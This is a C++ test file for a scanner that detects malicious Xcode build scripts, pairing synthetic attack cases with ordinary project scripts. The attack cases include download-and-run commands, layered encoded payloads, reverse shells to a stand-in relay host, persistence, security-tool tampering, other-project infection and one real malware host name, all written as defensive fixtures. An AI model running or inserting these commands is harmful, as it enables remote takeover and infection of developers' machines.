#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <functional>
#include <map>

#include "core/FileDiscovery.h"
#include "detectors/buildscripts/BuildScriptScanner.h"
#include "platform/Base64.h"
#include "support/ProjectText.h"
#include "support/RowName.h"
#include "support/TempTree.h"

namespace quillon::detectors::buildscripts {
namespace {

using core::Finding;
using core::Severity;
using testing::ProjectLayout;

// Synthetic payloads: every address is under example.invalid, and nothing is ever run.
const std::string kStage = "echo \"$(curl -fskL -d p=xcode https://cdn.example.invalid/a)\" | sh";

std::string hex(std::string_view bytes) {
    static constexpr char kDigits[] = "0123456789abcdef";
    std::string out;
    for (const char c : bytes) {
        out.push_back(kDigits[static_cast<unsigned char>(c) >> 4]);
        out.push_back(kDigits[static_cast<unsigned char>(c) & 0xF]);
    }
    return out;
}

std::string b64(std::string_view bytes, int times = 1) {
    std::string out(bytes);
    for (int i = 0; i < times; ++i) {
        out = platform::encodeBase64(out);
    }
    return out;
}

std::string gzipped(std::string_view text) {
    z_stream stream{};
    deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY);
    std::string out(deflateBound(&stream, static_cast<uLong>(text.size())) + 32, '\0');
    stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
    stream.avail_in = static_cast<uInt>(text.size());
    stream.next_out = reinterpret_cast<Bytef*>(out.data());
    stream.avail_out = static_cast<uInt>(out.size());
    deflate(&stream, Z_FINISH);
    out.resize(stream.total_out);
    deflateEnd(&stream);
    return out;
}

std::string rot13(std::string text) {
    for (char& c : text) {
        if (c >= 'a' && c <= 'z') {
            c = static_cast<char>('a' + (c - 'a' + 13) % 26);
        } else if (c >= 'A' && c <= 'Z') {
            c = static_cast<char>('A' + (c - 'A' + 13) % 26);
        }
    }
    return text;
}

struct Files {
    std::map<std::string, std::string> files;
};

// One project folder: the project file from `layout` (when it has anything) plus `extra` files.
struct Case {
    const char* name;
    std::function<ProjectLayout()> project;
    std::map<std::string, std::string> extra;
    const char* rule;  // a rule that must fire at high or critical; null for benign cases
};

BuildScriptReport scanCase(const Case& c) {
    testing::TempTree tree;
    if (c.project) {
        tree.write("App.xcodeproj/project.pbxproj", testing::projectText(c.project()));
    }
    for (const auto& [path, content] : c.extra) {
        tree.write(path, content);
    }
    const auto files =
        core::FileDiscovery().discoverFiles(tree.url(), core::buildScriptsDiscoveryConfiguration());
    return BuildScriptScanner().scan(tree.url(), files);
}

std::function<ProjectLayout()> phase(std::string script, std::string name = "Run Script") {
    return [script, name] {
        ProjectLayout layout;
        layout.phases.push_back({name, script});
        return layout;
    };
}

std::string describe(const BuildScriptReport& report) {
    std::string out;
    for (const auto& finding : report.findings) {
        out += std::string(core::severityName(finding.severity)) + " " + finding.ruleId + ": " +
               finding.message + "\n";
    }
    for (const auto& diagnostic : report.diagnostics) {
        out += "diagnostic " + diagnostic.file + ": " + diagnostic.message + "\n";
    }
    return out;
}

bool hasThreat(const BuildScriptReport& report, std::string_view rule) {
    return std::any_of(report.findings.begin(), report.findings.end(), [&](const Finding& f) {
        return f.ruleId == rule && f.severity >= Severity::high;
    });
}

bool anyThreat(const BuildScriptReport& report) {
    return std::any_of(report.findings.begin(), report.findings.end(),
                       [](const Finding& f) { return f.severity >= Severity::high; });
}

class Techniques : public ::testing::TestWithParam<Case> {};

TEST_P(Techniques, AreThreats) {
    const auto report = scanCase(GetParam());
    EXPECT_TRUE(hasThreat(report, GetParam().rule)) << describe(report);
}

const std::string kHexStage = hex(kStage);

INSTANTIATE_TEST_SUITE_P(
    BuildScripts, Techniques,
    ::testing::Values(
        Case{"HexPipedIntoShell",
             phase("echo \"" + kHexStage + "\" | xxd -p -r | sh >/dev/null 2>&1 || true"),
             {},
             "decoded-data-executed"},
        Case{"Base64FourTimesDetached",
             phase("((echo " + b64(kStage, 4) +
                   " | base64 -D | base64 -D | base64 -D | base64 -D | sh ) >/dev/null 2>&1 &)",
                   "Compile Code Assets"),
             {},
             "decoded-data-executed"},
        Case{"XxdReversedFlags", phase("echo " + kHexStage + " | xxd -r -p | bash"), {},
             "decoded-data-executed"},
        Case{"Base64LongOption", phase("echo " + b64(kStage) + " | base64 --decode | sh"), {},
             "decoded-data-executed"},
        Case{"OpensslBase64", phase("echo " + b64(kStage) + " | openssl base64 -d | sh"), {},
             "decoded-data-executed"},
        Case{"OpensslEnc", phase("echo " + b64(kStage) + " | openssl enc -base64 -d -A | zsh"),
             {},
             "decoded-data-executed"},
        Case{"HexInsideHex",
             phase("echo " + hex("echo " + kHexStage + " | xxd -p -r | sh") +
                   " | xxd -p -r | sh"),
             {},
             "downloaded-content-executed"},
        Case{"Base64InsideHex",
             phase("echo " + hex("echo " + b64(kStage) + " | base64 -D | sh") +
                   " | xxd -p -r | sh"),
             {},
             "downloaded-content-executed"},
        Case{"GzipThenBase64",
             phase("echo " + b64(gzipped(kStage)) + " | base64 -d | gunzip | sh"), {},
             "decoded-data-executed"},
        Case{"ReversedText", phase("echo '" + std::string(kStage.rbegin(), kStage.rend()) +
                                   "' | rev | sh"),
             {},
             "decoded-data-executed"},
        Case{"Rot13ByTr",
             phase("echo '" + rot13("curl -fsSL https://cdn.example.invalid/a | sh") +
                   "' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh"),
             {},
             "decoded-data-executed"},
        Case{"DecodedStageSubstitutesADownload", phase(kStage), {}, "downloaded-content-executed"},
        Case{"CurlPipedIntoShellWithArguments",
             phase("curl -fsSL https://cdn.example.invalid/a | sh -s false"), {},
             "downloaded-content-executed"},
        Case{"ShellCOfASubstitution", phase("sh -c \"$(curl -fsSL https://cdn.example.invalid/a)\""),
             {},
             "downloaded-content-executed"},
        Case{"ProcessSubstitution", phase("bash <(curl -fsSL https://cdn.example.invalid/a)"), {},
             "downloaded-content-executed"},
        Case{"SourceOfAProcessSubstitution",
             phase("source <(wget -qO- https://cdn.example.invalid/a)"), {},
             "downloaded-content-executed"},
        Case{"EvalOfADownload", phase("eval \"$(curl -s https://cdn.example.invalid/a)\""), {},
             "downloaded-content-executed"},
        Case{"SavedThenRun",
             phase("curl -fsSL https://cdn.example.invalid/a -o /tmp/.t\nchmod +x /tmp/.t\n/tmp/.t &"),
             {},
             "downloaded-content-executed"},
        Case{"SettingRunByAPhase",
             [] {
                 ProjectLayout layout;
                 layout.phases.push_back({"Run Script", "sh -c \"${QXZ}\""});
                 layout.settings = {{"QXZ", "echo " + kHexStage + " | xxd -p -r | sh"}};
                 return layout;
             },
             {},
             "build-setting-executed"},
        Case{"SettingOnlyInRelease",
             [] {
                 ProjectLayout layout;
                 layout.phases.push_back({"Run Script", "/bin/sh -c \"${KZP}\""});
                 layout.settings = {{"KZP", ""}};
                 layout.releaseSettings = {{"KZP", "echo " + b64(kStage) + " | base64 -D | sh"}};
                 return layout;
             },
             {},
             "decoded-data-executed"},
        Case{"SettingFromAnXcconfig",
             [] {
                 ProjectLayout layout;
                 layout.phases.push_back({"Run Script", "eval \"$WQP\""});
                 layout.baseConfiguration = "Config/Base.xcconfig";
                 return layout;
             },
             {{"Config/Base.xcconfig", "#include \"Shared.xcconfig\"\nSWIFT_VERSION = 5.0\n"},
              {"Config/Shared.xcconfig", "WQP = echo " + kHexStage + " | xxd -r -p | sh\n"}},
             "build-setting-executed"},
        Case{"LegacyTargetRunsASetting",
             [] {
                 ProjectLayout layout;
                 layout.legacyTool = "/bin/sh";
                 layout.legacyArguments = "-c \"${XQJ}\"";
                 layout.settings = {{"XQJ", "echo " + b64(kStage) + " | base64 -D | sh"}};
                 return layout;
             },
             {},
             "build-setting-executed"},
        Case{"BuildRuleForTextFiles",
             [] {
                 ProjectLayout layout;
                 layout.rules.push_back({"*.txt", "echo " + kHexStage + " | xxd -p -r | sh"});
                 return layout;
             },
             {{"App/empty.txt", ""}},
             "decoded-data-executed"},
        Case{"FunctionWrapsTheDecoder",
             phase("d(){ xxd -p -r | xxd -p -r; }; echo " + hex(kHexStage) + " | d | sh"), {},
             "decoded-data-executed"},
        Case{"DecoderNameBuiltByPrintfAndTr",
             phase("echo " + b64(kStage) + " | `printf bQase64 | tr -d Q` -D | sh"), {},
             "decoded-data-executed"},
        Case{"CommandNameFromAnsiC",
             phase("$'\\x63\\x75\\x72\\x6c' -fsSL https://cdn.example.invalid/a -o /dev/null"), {},
             "obfuscated-command"},
        Case{"CommandNameFromVariables", phase("a=cu; b=rl; $a$b -fsSL https://cdn.example.invalid/a -o /tmp/x"),
             {},
             "obfuscated-command"},
        Case{"FewShortVariablesAndEval",
             phase("p='cur';q='l -s ';r='https://cdn.example.invalid/s';s=' | sh';eval \"$p$q$r$s\""),
             {},
             "downloaded-content-executed"},
        Case{"PayloadDecodedInOnePhaseRunInAnother",
             [] {
                 ProjectLayout layout;
                 layout.phases.push_back(
                     {"Prepare", "echo " + b64(kStage) + " | base64 -D > \"$TMPDIR/.prep.sh\""});
                 layout.phases.push_back({"Run Script", "sh \"$TMPDIR/.prep.sh\""});
                 return layout;
             },
             {},
             "decoded-payload-written"},
        Case{"LaunchAgentWritten",
             phase("cat > ~/Library/LaunchAgents/com.example.agent.plist <<EOF\n<plist/>\nEOF\n"
                   "launchctl load ~/Library/LaunchAgents/com.example.agent.plist"),
             {},
             "persistence-written"},
        Case{"ShellStartupFileAppended",
             phase("echo 'source ~/.zshrc_aliases' >> ~/.zshrc"), {}, "persistence-written"},
        Case{"EncodedPayloadInDefaults",
             phase("defaults write com.example.agent data " + b64(kStage)), {},
             "persistence-written"},
        Case{"GitHookWritten",
             phase("printf '#!/bin/sh\\ncurl -s https://cdn.example.invalid/h | sh\\n' > \"$SRCROOT/.git/hooks/post-merge\""),
             {},
             "persistence-written"},
        Case{"OtherProjectsInfectedWithPerl",
             phase("find ~ -name project.pbxproj -exec perl -pi -e 's/buildPhases = \\(/X/' {} \\;"),
             {},
             "other-projects-modified"},
        Case{"OtherProjectsInfectedWithSedThroughXargs",
             phase("find \"$HOME\" -name '*.xcodeproj' | xargs -I{} sed -i '' 's/a/b/' {}/project.pbxproj"),
             {},
             "other-projects-modified"},
        Case{"QuarantineRemovedFromADownload",
             phase("curl -fsSL https://cdn.example.invalid/t -o /tmp/t\nxattr -d com.apple.quarantine /tmp/t"),
             {},
             "defence-tampering"},
        Case{"PrivacyPermissionsReset", phase("tccutil reset All com.apple.Terminal"), {},
             "defence-tampering"},
        Case{"GatekeeperDisabled", phase("spctl --master-disable"), {}, "defence-tampering"},
        Case{"SecurityToolKilled", phase("killall -9 LuLu"), {}, "defence-tampering"},
        Case{"XProtectLookedUp",
             phase("v=$(defaults read /Library/Apple/System/Library/CoreServices/XProtect.bundle/Contents/Info.plist CFBundleShortVersionString)"),
             {},
             "defence-tampering"},
        Case{"ReverseShellThroughDevTcp",
             phase("/bin/bash -i >& /dev/tcp/relay.example.invalid/443 0>&1 &"), {}, "remote-shell"},
        Case{"ReverseShellAssembledFromVariables",
             phase("a='/bi';b='n/ba';c='sh -';d='c \"(/b';e='in/bash -i >& /d';f='ev/tcp/relay.ex';"
                   "g='ample.invalid/443 0<&1 &)\"';eval \"$a$b$c$d$e$f$g\""),
             {},
             "remote-shell"},
        Case{"ReverseShellThroughANamedPipe",
             phase("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc relay.example.invalid 443 > /tmp/f"),
             {},
             "remote-shell"},
        Case{"NetcatRunsAShell", phase("nc -e /bin/sh relay.example.invalid 443"), {}, "remote-shell"},
        Case{"KnownXcssetHost", phase("curl -fskL -d p=xcode https://bulknames.ru/a -o /dev/null"),
             {},
             "known-xcsset-infrastructure"},
        Case{"SchemePreAction",
             nullptr,
             {{"App.xcodeproj/xcshareddata/xcschemes/App.xcscheme",
               "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Scheme>\n <BuildAction>\n  <PreActions>\n"
               "   <ExecutionAction ActionType=\"Xcode.IDEStandardExecutionActionsCore.ExecutionActionType.ShellScriptAction\">\n"
               "    <ActionContent title=\"Run Script\" scriptText=\"echo " + kHexStage +
                   " | xxd -p -r | sh&#10;\" shellToRun=\"/bin/sh\">\n    </ActionContent>\n"
                   "   </ExecutionAction>\n  </PreActions>\n </BuildAction>\n</Scheme>\n"}},
             "decoded-data-executed"},
        Case{"GitHook", nullptr,
             {{".git/hooks/post-checkout", "#!/bin/sh\ncurl -fsSL https://cdn.example.invalid/h | sh\n"}},
             "downloaded-content-executed"},
        Case{"ScriptFileRunByAPhase", phase("\"${SRCROOT}/Scripts/setup.sh\""),
             {{"Scripts/setup.sh", "#!/bin/sh\ncurl -fsSL https://cdn.example.invalid/a | bash\n"}},
             "downloaded-content-executed"},
        Case{"ScriptFileRunByBashRelative", phase("bash Scripts/setup.sh"),
             {{"Scripts/setup.sh", "wget -qO- https://cdn.example.invalid/a | sh\n"}},
             "downloaded-content-executed"},
        Case{"PhaseChangesFolderAndRunsAHiddenScript",
             phase("cd \"${PROJECT_FILE_PATH}/xcuserdata/.cache\"\n./.assets.sh"),
             {{"App.xcodeproj/xcuserdata/.cache/.assets.sh",
               "curl -fsSL https://cdn.example.invalid/a | sh\n"}},
             "downloaded-content-executed"},
        Case{"PhaseChangesFolderAndRunsAScript", phase("cd Tools\n./setup.sh --quiet"),
             {{"Tools/setup.sh", "wget -qO- https://cdn.example.invalid/a | bash\n"}},
             "downloaded-content-executed"},
        Case{"ScriptHiddenInTheProjectPackage", nullptr,
             {{"App.xcodeproj/project.xcworkspace/xcuserdata/u.xcuserdatad/.x.sh",
               "curl -fsSL https://cdn.example.invalid/a | sh\n"}},
             "downloaded-content-executed"},
        Case{"ShellNamedByTheEnvironment", phase("echo " + kHexStage + " | xxd -p -r | $SHELL"), {},
             "decoded-data-executed"},
        Case{"ShellFoundByWhich", phase("echo " + b64(kStage) + " | base64 -D | \"$(which bash)\" -s"),
             {},
             "decoded-data-executed"},
        Case{"LoginItemByAppleScript",
             phase("osascript -e 'tell application \"System Events\" to make login item at end "
                   "with properties {path:\"/Users/Shared/.agent.app\", hidden:true}'"),
             {},
             "persistence-written"},
        Case{"AppleScriptShell",
             phase("osascript -e 'do shell script \"echo " + b64(kStage) + " | base64 -D | sh\"'"),
             {},
             "decoded-data-executed"},
        Case{"DecodedIntoPython", phase("echo " + b64("import os") + " | base64 -D | python3"), {},
             "decoded-data-executed"},
        Case{"TwelveLayers",
             [] {
                 std::string script = kStage;
                 for (int i = 0; i < 12; ++i) {
                     script = "echo " + b64(script) + " | base64 -D | sh";
                 }
                 ProjectLayout layout;
                 layout.phases.push_back({"Run Script", script});
                 return layout;
             },
             {},
             "analysis-budget-exhausted"},
        Case{"DecoyInFrontOfTheInjection",
             [] {
                 ProjectLayout layout;
                 // The decoy doubles a variable until the analysis's budget for it runs out.
                 std::string decoy = "a=xxxxxxxxxxxxxxxx";
                 for (int i = 0; i < 64; ++i) {
                     decoy += "; a=$a$a";
                 }
                 for (int i = 0; i < 40; ++i) {
                     layout.phases.push_back({"Decoy " + std::to_string(i), decoy});
                 }
                 layout.phases.push_back({"Run Script", "echo " + kHexStage + " | xxd -p -r | sh"});
                 return layout;
             },
             {},
             "decoded-data-executed"}),
    testing::RowName());

class OrdinaryProjects : public ::testing::TestWithParam<Case> {};

TEST_P(OrdinaryProjects, AreNoThreat) {
    const auto report = scanCase(GetParam());
    EXPECT_FALSE(anyThreat(report)) << describe(report);
    // Beyond the developer's own script, nothing at all is reported.
    if (GetParam().rule == nullptr) {
        EXPECT_TRUE(report.findings.empty()) << describe(report);
    }
}

INSTANTIATE_TEST_SUITE_P(
    BuildScripts, OrdinaryProjects,
    ::testing::Values(
        Case{"CocoaPodsCheckManifest",
             phase("diff \"${PODS_PODFILE_DIR_PATH}/Podfile.lock\" \"${PODS_ROOT}/Manifest.lock\" "
                   "> /dev/null\n"
                   "if [ $? != 0 ] ; then\n    # print error to STDERR\n    echo \"error: The "
                   "sandbox is not in sync with the Podfile.lock. Run 'pod install' or update your "
                   "CocoaPods installation.\" >&2\n    exit 1\nfi\n"
                   "# This output is used by Xcode outputs to avoid re-running this script "
                   "phase.\necho \"SUCCESS\" > \"${SCRIPT_OUTPUT_FILE_0}\"\n",
                   "[CP] Check Pods Manifest.lock"),
             {},
             nullptr},
        Case{
            "CocoaPodsEmbedFrameworks",
            phase("\"${PODS_ROOT}/Target Support Files/Pods-App/Pods-App-frameworks.sh\"\n",
                  "[CP] Embed Pods Frameworks"),
            {{"Pods/Target Support Files/Pods-App/Pods-App-frameworks.sh",
              "#!/bin/sh\nset -e\nset -u\nset -o pipefail\nif [ -z ${FRAMEWORKS_FOLDER_PATH+x} ]; "
              "then\n  exit 0\nfi\n"
              "install_framework()\n{\n  if [ -r \"${BUILT_PRODUCTS_DIR}/$1\" ]; then\n    local "
              "source=\"${BUILT_PRODUCTS_DIR}/$1\"\n  fi\n"
              "  local destination=\"${TARGET_BUILD_DIR}/${FRAMEWORKS_FOLDER_PATH}\"\n"
              "  rsync --delete -av --filter \"- CVS/\" --links \"${source}\" \"${destination}\"\n"
              "  local basename\n  basename=\"$(basename -s .framework \"$1\")\"\n"
              "  binary=\"${destination}/${basename}.framework/${basename}\"\n"
              "  if ! [ -r \"$binary\" ]; then\n    binary=\"${destination}/${basename}\"\n"
              "  elif [ -L \"${binary}\" ]; then\n    echo \"Destination binary is symlinked...\"\n"
              "    dirname=\"$(dirname \"${binary}\")\"\n    binary=\"${dirname}/$(readlink "
              "\"${binary}\")\"\n  fi\n"
              "  if [[ \"$(file \"$binary\")\" == *\"dynamically linked shared library\"* ]]; "
              "then\n    strip_invalid_archs \"$binary\"\n  fi\n}\n"
              "code_sign_if_enabled() {\n  if [ -n \"${EXPANDED_CODE_SIGN_IDENTITY:-}\" -a "
              "\"${CODE_SIGNING_REQUIRED:-}\" != \"NO\" ]; then\n"
              "    local code_sign_cmd=\"/usr/bin/codesign --force --sign "
              "${EXPANDED_CODE_SIGN_IDENTITY} ${OTHER_CODE_SIGN_FLAGS:-} "
              "--preserve-metadata=identifier,entitlements '$1'\"\n"
              "    if [ \"${COCOAPODS_PARALLEL_CODE_SIGN}\" == \"true\" ]; then\n      "
              "code_sign_cmd=\"$code_sign_cmd &\"\n    fi\n"
              "    echo \"$code_sign_cmd\"\n    eval \"$code_sign_cmd\"\n  fi\n}\n"
              "if [[ \"$CONFIGURATION\" == \"Debug\" ]]; then\n  install_framework "
              "\"${BUILT_PRODUCTS_DIR}/Alamofire/Alamofire.framework\"\nfi\n"
              "if [ \"${COCOAPODS_PARALLEL_CODE_SIGN}\" == \"true\" ]; then\n  wait\nfi\n"}},
            nullptr},
        Case{"SwiftLint",
             phase("if [[ \"$(uname -m)\" == arm64 ]]; then\n  export "
                   "PATH=\"/opt/homebrew/bin:$PATH\"\nfi\n"
                   "if which swiftlint > /dev/null; then\n  swiftlint\nelse\n  echo \"warning: "
                   "SwiftLint not installed, download from "
                   "https://github.com/realm/SwiftLint\"\nfi\n"),
             {},
             nullptr},
        Case{"SwiftFormatSwiftGenRSwiftSourcery",
             [] {
                 ProjectLayout layout;
                 layout.phases = {
                     {"SwiftFormat",
                      "\"${PODS_ROOT}/SwiftFormat/CommandLineTool/swiftformat\" \"$SRCROOT\""},
                     {"SwiftGen",
                      "if [[ -f \"${PODS_ROOT}/SwiftGen/bin/swiftgen\" ]]; then\n  "
                      "\"${PODS_ROOT}/SwiftGen/bin/swiftgen\" config run\nelse\n  echo \"warning: "
                      "SwiftGen is not installed.\"\nfi\n"},
                     {"R.swift",
                      "\"$PODS_ROOT/R.swift/rswift\" generate \"$SRCROOT/R.generated.swift\""},
                     {"Sourcery",
                      "mint run krzysztofzablocki/Sourcery sourcery --config "
                      "\"${SRCROOT}/.sourcery.yml\""}};
                 return layout;
             },
             {},
             nullptr},
        Case{"CrashlyticsAndSentryUploads",
             [] {
                 ProjectLayout layout;
                 layout.phases = {
                     {"Crashlytics",
                      "\"${BUILD_DIR%/Build/*}/SourcePackages/checkouts/firebase-ios-sdk/"
                      "Crashlytics/run\""},
                     {"Upload dSYMs",
                      "if [ \"$CONFIGURATION\" = \"Release\" ]; then\n  zip -r symbols.zip "
                      "\"${DWARF_DSYM_FOLDER_PATH}\"\n  curl --fail -sS -F \"file=@symbols.zip\" "
                      "-H \"Authorization: Bearer ${SENTRY_AUTH_TOKEN}\" "
                      "https://sentry.example.invalid/api/0/projects/acme/app/files/dsyms/\nfi\n"},
                     {"Sentry CLI",
                      "export SENTRY_PROPERTIES=sentry.properties\nif which sentry-cli >/dev/null; "
                      "then\n  ERROR=$(sentry-cli debug-files upload --include-sources "
                      "\"$DWARF_DSYM_FOLDER_PATH\" 2>&1 >/dev/null)\n  if [ ! $? -eq 0 ]; then\n   "
                      " echo \"warning: sentry-cli - $ERROR\"\n  fi\nfi\n"}};
                 return layout;
             },
             {},
             nullptr},
        Case{"FlutterBackend",
             phase("/bin/sh \"$FLUTTER_ROOT/packages/flutter_tools/bin/xcode_backend.sh\" build\n"
                   "/bin/sh \"$FLUTTER_ROOT/packages/flutter_tools/bin/xcode_backend.sh\" "
                   "embed_and_thin\n",
                   "Run Script"),
             {},
             nullptr},
        Case{"ReactNativeBundle",
             phase("set "
                   "-e\n\nWITH_ENVIRONMENT=\"../node_modules/react-native/scripts/xcode/"
                   "with-environment.sh\"\n"
                   "REACT_NATIVE_XCODE=\"../node_modules/react-native/scripts/"
                   "react-native-xcode.sh\"\n\n"
                   "/bin/sh -c \"\\\"$WITH_ENVIRONMENT\\\" \\\"$REACT_NATIVE_XCODE\\\"\"\n",
                   "Bundle React Native code and images"),
             {},
             nullptr},
        Case{
            "PackagerChecks",
            phase("if nc -w 5 -z localhost 8081 ; then\n  if ! curl -s "
                  "\"http://localhost:8081/status\" | grep -q \"packager-status:running\" ; then\n"
                  "    echo \"Port 8081 already in use, packager is either not running or not "
                  "running correctly\"\n    exit 2\n  fi\nelse\n"
                  "  open \"$SRCROOT/../node_modules/react-native/scripts/launchPackager.command\" "
                  "|| echo \"Can't start packager automatically\"\nfi\n",
                  "Start Packager"),
            {},
            nullptr},
        Case{"CarthageAndBuildNumbers",
             [] {
                 ProjectLayout layout;
                 layout.phases = {{"Carthage", "/usr/local/bin/carthage copy-frameworks"},
                                  {"Build Number",
                                   "buildNumber=$(git rev-list HEAD "
                                   "--count)\n/usr/libexec/PlistBuddy -c \"Set :CFBundleVersion "
                                   "$buildNumber\" \"${TARGET_BUILD_DIR}/${INFOPLIST_PATH}\"\n"}};
                 return layout;
             },
             {},
             nullptr},
        Case{"HomebrewAndRbenvEval",
             phase("eval \"$(/opt/homebrew/bin/brew shellenv)\"\neval \"$(rbenv init -)\"\nbundle "
                   "exec fastlane run_checks\n"),
             {},
             nullptr},
        Case{"SecretDecodedIntoAPlist",
             phase("echo \"$GOOGLE_SERVICE_INFO_PLIST_BASE64\" | base64 --decode > "
                   "\"${BUILT_PRODUCTS_DIR}/${PRODUCT_NAME}.app/GoogleService-Info.plist\""),
             {},
             nullptr},
        Case{"HexFedToShasum",
             phase("echo \"$MODEL_SHA256\" | xxd -p -r | shasum -a 256"),
             {},
             nullptr},
        Case{"DownloadSavedAndChecked",
             phase("curl -fsSL -o tool.zip https://downloads.example.invalid/tool.zip\n"
                   "shasum -a 256 -c tool.zip.sha256\nunzip -o tool.zip -d Tools\n"),
             {},
             nullptr},
        Case{"LegacyTargetRunsMake",
             [] {
                 ProjectLayout layout;
                 layout.legacyTool = "/usr/bin/make";
                 layout.legacyArguments = "$(ACTION)";
                 return layout;
             },
             {},
             nullptr},
        Case{"LegacyTargetRunsAReleaseScript",
             [] {
                 ProjectLayout layout;
                 layout.legacyTool = "/bin/bash";
                 layout.legacyArguments = "Scripts/release.sh $(CONFIGURATION)";
                 return layout;
             },
             {{"Scripts/release.sh",
               "#!/bin/bash\nset -euo pipefail\nxcodebuild -scheme App archive\n"}},
             nullptr},
        Case{"BuildRuleRunsProtoc",
             [] {
                 ProjectLayout layout;
                 layout.rules.push_back({"*.proto",
                                         "protoc --proto_path=\"$INPUT_FILE_DIR\" "
                                         "--swift_out=\"$DERIVED_FILE_DIR\" \"$INPUT_FILE_PATH\""});
                 return layout;
             },
             {},
             nullptr},
        Case{"PythonWithLiteralCode",
             phase("python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))[\"version\"])' "
                   "package.json"),
             {},
             nullptr},
        Case{"SettingsHoldingKeysAndCertificates",
             [] {
                 ProjectLayout layout;
                 std::string certificate;
                 for (int i = 0; i < 600; ++i) {
                     certificate.push_back(static_cast<char>((i * 37 + 11) % 256));
                 }
                 layout.settings = {
                     {"SIGNING_CERTIFICATE", b64(certificate)},
                     {"API_KEY",
                      "3f9a7c2e5b1d4a8f9e0c7b6a5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c"}};
                 layout.phases.push_back({"Run Script", "echo \"Building $PRODUCT_NAME\""});
                 return layout;
             },
             {},
             nullptr},
        Case{"OwnProjectFoundAndVersionBumped",
             phase("PROJECT=$(find \"$SRCROOT\" -maxdepth 1 -name '*.xcodeproj')\n"
                   "sed -i '' \"s/CURRENT_PROJECT_VERSION = .*;/CURRENT_PROJECT_VERSION = 7;/\" "
                   "\"$PROJECT/project.pbxproj\""),
             {},
             nullptr},
        Case{"ToolsRunByPathsFromSettings",
             phase("\"${VIRTUAL_ENV}/bin/python3\" "
                   "tools/gen.py\n\"${PODS_ROOT}/SwiftLint/swiftlint\""),
             {},
             nullptr},
        Case{
            "CodeSignCommandBuiltAndEvaluated",
            phase("code_sign_cmd=\"/usr/bin/codesign --force --sign ${EXPANDED_CODE_SIGN_IDENTITY} "
                  "--preserve-metadata=identifier,entitlements '$1'\"\n"
                  "if [ \"${COCOAPODS_PARALLEL_CODE_SIGN}\" == \"true\" ]; then\n"
                  "  code_sign_cmd=\"$code_sign_cmd &\"\nfi\necho \"$code_sign_cmd\"\neval "
                  "\"$code_sign_cmd\"\n"),
            {},
            nullptr},
        Case{"LintHookCopiedFromTheProject",
             phase("cp -f \"${SRCROOT}/hooks/pre-commit\" \"${SRCROOT}/.git/hooks/pre-commit\""),
             {{"hooks/pre-commit", "#!/bin/sh\nswiftlint lint --strict\n"}},
             "persistence-written"},
        Case{"CommentsThatMentionCurlAndEval",
             phase("# Do not use: curl https://install.example.invalid | sh\n# eval is avoided "
                   "here on purpose\necho done\n"),
             {},
             nullptr},
        Case{"SampleGitHooks",
             nullptr,
             {{".git/hooks/pre-commit.sample",
               "#!/bin/sh\ncurl -fsSL https://cdn.example.invalid/h | sh\n"}},
             nullptr},
        Case{"DeveloperBootstrapScript",
             nullptr,
             {{"scripts/bootstrap.sh",
               "#!/bin/sh\ncommand -v mint >/dev/null || curl -fsSL "
               "https://mint.example.invalid/install.sh | bash\n"}},
             "downloaded-content-executed"}),
    testing::RowName());

TEST(BuildScripts, DeveloperScriptDownloadsAreReportedAtMedium) {
    const auto report =
        scanCase({"x",
                  nullptr,
                  {{"scripts/bootstrap.sh", "curl -fsSL https://mint.example.invalid/i | bash\n"}},
                  nullptr});
    ASSERT_EQ(report.findings.size(), 1u) << describe(report);
    EXPECT_EQ(report.findings[0].ruleId, "downloaded-content-executed");
    EXPECT_EQ(report.findings[0].severity, Severity::medium);
    EXPECT_EQ(report.findings[0].location.file, "scripts/bootstrap.sh");
    EXPECT_EQ(report.findings[0].location.line, 1u);
}

TEST(BuildScripts, FindingCarriesLocationLayersRemedyAndFingerprint) {
    const auto report =
        scanCase({"x",
                  phase("echo " + b64(kStage) + " | base64 -D | sh", "[CP] Embed Pods Frameworks"),
                  {},
                  nullptr});
    ASSERT_FALSE(report.findings.empty());
    const Finding& top = report.findings.front();
    EXPECT_EQ(top.ruleId, "decoded-data-executed");
    EXPECT_EQ(top.severity, Severity::critical);
    EXPECT_EQ(top.location.file, "App.xcodeproj/project.pbxproj");
    EXPECT_GT(top.location.line, 0u);
    EXPECT_EQ(top.location.target, "App");
    EXPECT_EQ(top.location.container, "[CP] Embed Pods Frameworks");
    EXPECT_EQ(top.location.containerKind, "build phase");
    EXPECT_FALSE(top.location.objectId.empty());
    ASSERT_EQ(top.layers.size(), 1u);
    EXPECT_EQ(top.layers[0].method, "base64");
    EXPECT_EQ(top.layers[0].text, kStage);
    EXPECT_NE(top.message.find("as CocoaPods names its phases"), std::string::npos);
    EXPECT_NE(top.remediation.find("Remove build phase '[CP] Embed Pods Frameworks'"),
              std::string::npos);
    EXPECT_EQ(top.fingerprint.size(), 16u);
}

TEST(BuildScripts, FingerprintsSurviveMovesAndLinesAboveButNotAnEditedPayload) {
    auto fingerprints = [](const std::string& script, const std::string& padding) {
        testing::TempTree tree;
        ProjectLayout layout;
        layout.phases.push_back({"Run Script", script});
        tree.write("App.xcodeproj/project.pbxproj", padding + testing::projectText(layout));
        const auto files = core::FileDiscovery().discoverFiles(
            tree.url(), core::buildScriptsDiscoveryConfiguration());
        std::vector<std::string> out;
        for (const auto& finding : BuildScriptScanner().scan(tree.url(), files).findings) {
            out.push_back(finding.fingerprint);
        }
        return out;
    };
    const std::string script = "echo " + kHexStage + " | xxd -p -r | sh";
    const auto first = fingerprints(script, "");
    ASSERT_FALSE(first.empty());
    EXPECT_EQ(fingerprints(script, ""), first);        // another folder
    EXPECT_EQ(fingerprints(script, "\n\n\n"), first);  // lines added above
    EXPECT_NE(fingerprints("echo " + hex(kStage + " ") + " | xxd -p -r | sh", ""), first);
}

TEST(BuildScripts, UnreadableAndOversizedFilesBecomeDiagnostics) {
    testing::TempTree tree;
    tree.write("App.xcodeproj/project.pbxproj", "{ objects = { A = { isa = PBXNativeTarget; ");
    const auto files =
        core::FileDiscovery().discoverFiles(tree.url(), core::buildScriptsDiscoveryConfiguration());
